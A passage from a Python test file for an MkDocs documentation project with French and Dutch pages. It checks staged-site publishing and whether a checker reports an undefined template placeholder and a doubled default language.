        publish_staged_site(staging, site)  # nothing staged: the rename fails
    assert [path.name for path in (site / "nl").iterdir()] == ["new.html"]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["site"]


def test_hooks_check_reports_placeholders_and_languages_as_the_build_does(project: Path) -> None:
    page = project / "docs" / "fr" / "faq.md"
    page.write_text(page.read_text(encoding="utf-8").replace("# Questions fréquentes\n",
                                                             "# Questions fréquentes {{ contact.nope }}\n", 1),
                    encoding="utf-8")
    config = project / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("          build: true\n          site_name: Modèle",
                                                                 "          default: true\n          build: true\n"
                                                                 "          site_name: Modèle"), encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "hooks.check", "--config", str(config)],
                            capture_output=True, text=True, cwd=PROJECT, check=False)
    assert result.returncode == 1
    assert result.stdout.splitlines() == [
        "docs/fr/faq.md:5:24: contact.nope: no such value under 'extra' in mkdocs.yml; wrap the line in {% if contact.nope %} … {% endif %} if a publisher may leave it out",
        "mkdocs.yml: plugins.i18n.languages: exactly one language must have default: true (the source language of "
        "the pages), found 2: nl, fr",
    ]
